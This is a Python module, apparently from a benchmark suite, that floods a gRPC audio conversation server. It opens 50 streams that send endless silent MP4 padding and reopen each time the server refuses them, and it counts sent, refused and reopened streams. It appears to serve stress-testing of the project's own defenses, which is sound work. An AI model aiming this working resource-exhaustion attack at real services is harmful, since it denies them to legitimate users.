"""An attack with audio streams, over gRPC: what the server refuses is the stream, and not the connection."""

from __future__ import annotations

import struct
import threading
import time
import uuid
from collections.abc import Callable, Iterator
from contextlib import suppress
from itertools import count

import grpc
from vestibule.v1 import conversation_pb2, conversation_pb2_grpc, session_pb2, session_pb2_grpc

from benchmarks._attack_lines import Attack

STREAMS = 50
"""As many as one client may have."""
CHUNK_BYTES = 64 * 1024
REOPEN_S = 0.05
BEGIN = struct.pack(">I4s4sI4s", 20, b"ftyp", b"M4A ", 0, b"M4A ")
FREE = struct.pack(">I4s", CHUNK_BYTES, b"free") + bytes(CHUNK_BYTES - 8)


def mp4_streams(attack: Attack) -> Callable[[], None]:
    """Streams of one key, each an MP4 of "free" boxes without end, which its decoder skips: no sound, no index."""
    channel = grpc.insecure_channel(attack.address)
    client = _Client(attack, channel)
    for _ in range(STREAMS):
        threading.Thread(target=client.stream, daemon=True).start()
    return lambda: time.sleep(0.1)


class _Client:
    def __init__(self, attack: Attack, channel: grpc.Channel) -> None:
        self._attack = attack
        self._sessions = session_pb2_grpc.SessionServiceStub(channel)
        self._conversations = conversation_pb2_grpc.ConversationServiceStub(channel)
        self._metadata = tuple((str(name), str(value)) for name, value in attack.more)

    def stream(self) -> None:
        """Open a stream, and open it again whenever the server ends it."""
        session_id = self._session()
        for opened in count():
            self._attack.reopened += opened > 0
            try:
                for _ in self._conversations.Converse(self._messages(session_id), metadata=self._metadata):
                    pass
            except grpc.RpcError:
                self._attack.refused += 1
            time.sleep(REOPEN_S)

    def _session(self) -> str:
        request = session_pb2.StartSessionRequest(client_id="attacker", request_id=str(uuid.uuid4()))
        with suppress(grpc.RpcError):  # the server without options knows no sessions
            return str(self._sessions.StartSession(request, metadata=self._metadata).session.id)
        return str(uuid.uuid4())

    def _messages(self, session_id: str) -> Iterator[conversation_pb2.ConverseRequest]:
        container = conversation_pb2.AUDIO_ENCODING_CONTAINER
        config = conversation_pb2.ConverseConfig(session_id=session_id, encoding=container)
        yield conversation_pb2.ConverseRequest(config=config)
        offset = 0
        while True:
            data = FREE if offset else BEGIN
            yield conversation_pb2.ConverseRequest(audio=conversation_pb2.AudioChunk(offset=offset, data=data))
            offset += len(data)
            self._attack.sent += 1
